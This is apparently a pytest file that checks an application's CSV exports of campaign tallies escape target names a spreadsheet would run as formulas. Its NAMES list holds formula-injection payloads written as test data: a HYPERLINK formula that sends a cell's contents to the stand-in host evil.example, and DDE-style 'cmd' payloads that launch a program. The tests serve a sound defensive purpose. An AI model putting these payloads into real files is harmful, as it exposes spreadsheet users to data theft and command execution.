"""Tallies CSV cells a spreadsheet would run as formulas are written as text (issue 25, item 9b)."""

import csv
import io
from collections.abc import Iterable, Iterator
from dataclasses import replace

import pytest
import respx
from fastapi.testclient import TestClient
from sqlmodel import Session

from app.settings import Settings
from app.storage.db import create_db_engine
from app.tallies.exports import stream_legs_csv
from app.tallies.facts import LegFacts
from app.tallies.filters import TallyFilter
from tests.support import AppFor, new_token
from tests.tallies.support import WARREN, leg, record_legs

# What a custom target's name (from a campaign file or the admin form) may say.
NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def evil_legs() -> list[LegFacts]:
    return [
        replace(leg(WARREN, outcome="contact", connected=True), target_id=f"T{n}", target_name=name)
        for n, name in enumerate(NAMES)
    ]


@pytest.fixture
def staff(settings: Settings, census: respx.Router, app_for: AppFor) -> Iterator[TestClient]:
    engine = create_db_engine(settings.database_url)
    record_legs(engine, evil_legs())
    engine.dispose()
    token = new_token(settings.database_url, "staff")
    with TestClient(app_for(settings), headers={"authorization": f"Bearer {token}"}) as client:
        yield client


def test_the_targets_table_writes_formulas_as_text(staff: TestClient) -> None:
    answer = staff.get("/admin/campaigns/grace-no-ban/tallies.csv", params={"table": "targets"})
    assert answer.status_code == 200
    names = {row["target_id"]: row["name"] for row in csv.DictReader(io.StringIO(answer.text))}
    assert [names[f"T{n}"] for n in range(len(NAMES))] == ["'" + name for name in NAMES]


class Listed:
    def __init__(self, legs: list[LegFacts]) -> None:
        self.legs = legs

    def iter_legs(self, session: Session, *, campaign: str, filters: TallyFilter) -> Iterable[LegFacts]:
        return iter(self.legs)


def test_the_legs_download_writes_formulas_as_text(settings: Settings) -> None:
    engine = create_db_engine(settings.database_url)
    try:
        text = "".join(
            stream_legs_csv(
                engine, source=Listed(evil_legs()), campaign="grace-no-ban", filters=TallyFilter()
            )
        )
    finally:
        engine.dispose()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["target_name"] for row in rows] == ["'" + name for name in NAMES]
    assert {row["connected"] for row in rows} == {"1"}, "numbers are left as they are"
